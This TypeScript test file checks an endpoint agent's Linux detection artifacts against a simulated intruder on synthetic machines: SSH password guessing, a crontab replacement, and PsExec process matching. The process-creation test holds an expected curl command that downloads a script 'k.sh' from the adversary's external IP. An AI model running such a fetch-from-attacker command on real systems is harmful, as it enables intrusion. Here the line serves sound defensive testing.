// Talon's built-in Linux event artifacts run unchanged on pooled Linux endpoints through the
// agent's own watch_syslog(), watch_journald(), watch_files() and diff() over pslist(), on the
// endpoint's synthetic sources, and find the adversary: adm_peter's password accepted over SSH
// after failures from outside (in the auth log and in the journal), the script it fetched as a
// new process, and root's crontab replaced.
import { describe, expect, it } from "vitest";
import { ADVERSARY } from "./activity/people";
import { createSyntheticSystem } from "./system";
import { builtinArtifacts, runOnEndpoint } from "./testdata/artifact-runner";
import { adversaryOn, findProfile, isLinux } from "./testdata/endpoints";

type Row = Record<string, unknown>;
const SEED = "linux-artifacts";
const debian = findProfile(SEED, (p) => isLinux(p) && adversaryOn(p) && p.platform !== "rhel");
const rhel = findProfile(SEED, (p) => isLinux(p) && adversaryOn(p) && p.platform === "rhel");
const artifact = (name: string) => builtinArtifacts().get(name)!;
const admin = (r: Row) => r.User === ADVERSARY.admin;
/** An accepted login of adm_peter after a failed one (the watch may start between the two). */
const guessed = (rows: Row[]) => rows.some((x, i) => admin(x) && x.Result === "Accepted" && rows.slice(0, i).some((f) => admin(f) && f.Result === "Failed"));

describe("Linux.Events.SSHLogin on pooled Linux endpoints", () => {
  for (const [what, profile, parameters] of [
    ["the auth log (Debian)", debian, {}],
    ["the auth log (RHEL's /var/log/secure)", rhel, {}],
    ["the journal", debian, { LogSource: "journald" }],
  ] as const) {
    it(`from ${what}: adm_peter's password is accepted from outside after failures`, async () => {
      const r = await runOnEndpoint(createSyntheticSystem(profile, { rate: 100 }), artifact("Linux.Events.SSHLogin"), {
        parameters,
        timeoutMs: 20_000,
        until: guessed,
      });
      expect(r.preconditionPassed).toBe(true);
      expect(r.satisfied).toBe(true);
      const accepted = r.rows.findLast((x) => admin(x) && x.Result === "Accepted")!;
      expect(accepted).toMatchObject({ Method: "password", SourceIP: ADVERSARY.externalIp });
      expect(r.rows.filter((x) => admin(x) && x.Result === "Failed" && x.SourceIP === ADVERSARY.externalIp).length).toBeGreaterThan(0);
      // Everyone else logs in with a key.
      for (const x of r.rows) if (x.Result === "Accepted" && !admin(x)) expect(x.Method).toBe("publickey");
    });
  }
});

describe("Linux.Events.TrackAccount on a pooled Linux endpoint", () => {
  it("UserRegex=adm_peter: its sshd login, and nothing from cron", async () => {
    const r = await runOnEndpoint(createSyntheticSystem(debian, { rate: 100 }), artifact("Linux.Events.TrackAccount"), {
      parameters: { UserRegex: `^${ADVERSARY.admin}$` },
      timeoutMs: 20_000,
      until: (rows) => rows.some((x) => x.Result === "Accepted"),
    });
    expect(r.satisfied).toBe(true);
    for (const x of r.rows) expect(x).toMatchObject({ User: ADVERSARY.admin, Service: "sshd", SourceIP: ADVERSARY.externalIp });
  });
});

describe("Linux.Events.ProcessCreation (diff() over pslist()) on a pooled Linux endpoint", () => {
  it("reports the script download as a new process, with the SSH session as its parent", async () => {
    const curl = (x: Row) => String(x.CommandLine).startsWith("/usr/bin/curl");
    const r = await runOnEndpoint(createSyntheticSystem(debian, { rate: 50 }), artifact("Linux.Events.ProcessCreation"), { parameters: { Period: "0.5" }, timeoutMs: 25_000, until: (rows) => rows.some(curl) });
    expect(r.satisfied).toBe(true);
    const hit = r.rows.find(curl)!;
    expect(hit).toMatchObject({ Username: "root", CommandLine: `/usr/bin/curl -fsSL http://${ADVERSARY.externalIp}/k.sh -o ${ADVERSARY.dropped}`, ParentCommandLine: `sshd: ${ADVERSARY.admin} [priv]` });
  });
});

describe("Linux.Detection.FileChanges on a pooled Linux endpoint", () => {
  it("with its default globs sees root's crontab replaced, and nothing outside them", async () => {
    const r = await runOnEndpoint(createSyntheticSystem(debian, { rate: 100 }), artifact("Linux.Detection.FileChanges"), { timeoutMs: 20_000, until: (rows) => rows.some((x) => x.OSPath === ADVERSARY.crontab) });
    expect(r.satisfied).toBe(true);
    for (const x of r.rows) expect(x).toMatchObject({ OSPath: ADVERSARY.crontab, Action: "modified" });
  });
});

describe("Generic.Alerts.ProcessListing (the alert-on-a-process template) on a pooled endpoint", () => {
  it("raises one alert per matching process, with its pid and name, and nothing for the others", async () => {
    // The endpoint's processes come and go: compare with the listing the artifact itself saw.
    const system = createSyntheticSystem(debian, { rate: 1 });
    const r = await runOnEndpoint(system, artifact("Generic.Alerts.ProcessListing"), { parameters: { ProcessRegex: "^sshd$", AlertName: "sshd found" }, timeoutMs: 10_000 });
    expect(r.rows.length).toBeGreaterThan(0);
    expect(r.rows.every((x) => x.Alerted === true && x.Name === "sshd" && typeof x.Pid === "number")).toBe(true);
    // dedup=-1: one alert per matching process, none for the rest.
    expect(r.logs.filter((l) => l === "ALERT sshd found")).toHaveLength(r.rows.length);
    expect(r.logs.filter((l) => l.startsWith("ALERT "))).toHaveLength(r.rows.length);
  });

  it("by default matches PsExec's client and service names, not other processes", () => {
    const re = new RegExp(String(artifact("Generic.Alerts.ProcessListing").parameters.find((p) => p.name === "ProcessRegex")!.default).replace("(?i)", ""), "i");
    for (const name of ["PsExec.exe", "PSEXESVC.exe", "psexec64.exe", "psexesvc"]) expect(re.test(name)).toBe(true);
    for (const name of ["explorer.exe", "svchost.exe", "sshd", "psql"]) expect(re.test(name)).toBe(false);
  });
});
